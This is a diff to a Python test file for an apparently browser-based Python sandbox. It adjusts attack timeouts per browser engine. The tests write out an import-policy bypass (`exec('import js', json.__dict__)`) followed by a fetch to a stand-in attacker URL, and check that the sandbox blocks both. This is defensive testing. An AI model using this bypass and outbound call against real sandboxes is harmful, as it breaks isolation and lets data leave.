@@ -135,6 +135,12 @@ ATTACKS = [
 ]
 
 
+def attack_deadline_ms(engine: str) -> int:
+    """A refused request ends the run at once where the engine settles it; where it never does
+    (WebKitGTK), the run always ends at this deadline, and a short one proves as much."""
+    return 10_000 if not lacks(engine, "blocked-fetch-settles") else 3_000
+
+
 def reported(engine: str, api: str | None) -> bool:
     """Whether the engine reports a refusal of `api` (None: the kernel's own audit does)."""
     if api is None:
@@ -147,7 +153,7 @@ def test_no_request_reaches_another_server(
     sdk: SdkPage, open_sandbox: str, attacker: Attacker, attack: str, blocked: object
 ) -> None:
     code = attack.format(url=attacker.url, ws=attacker.url.replace("http", "ws"))
-    result = sdk.run(open_sandbox, code, timeoutMs=10_000)
+    result = sdk.run(open_sandbox, code, timeoutMs=attack_deadline_ms(sdk.engine))
     assert result["outcome"] != "OUTCOME_POLICY_VIOLATION", "the policy must be off here"
     assert attacker.hits == []
     if result["outcome"] == "OUTCOME_DEADLINE_EXCEEDED":  # only where a refused fetch never ends
@@ -258,7 +264,7 @@ def test_the_import_policy_is_advisory_and_the_browser_still_holds(
     forged = sdk.run(sandbox, "exec('import js', {'__spec__': __import__('json').__spec__})")
     assert forged["outcome"] == "OUTCOME_POLICY_VIOLATION"
     code = f"import json\nexec('import js', json.__dict__)\nawait json.js.fetch('{attacker.url}/x')"
-    result = sdk.run(sandbox, code, timeoutMs=10_000)
+    result = sdk.run(sandbox, code, timeoutMs=attack_deadline_ms(sdk.engine))
     assert attacker.hits == []
     if lacks(sdk.engine, "blocked-fetch-settles"):
         assert result["outcome"] == "OUTCOME_DEADLINE_EXCEEDED"
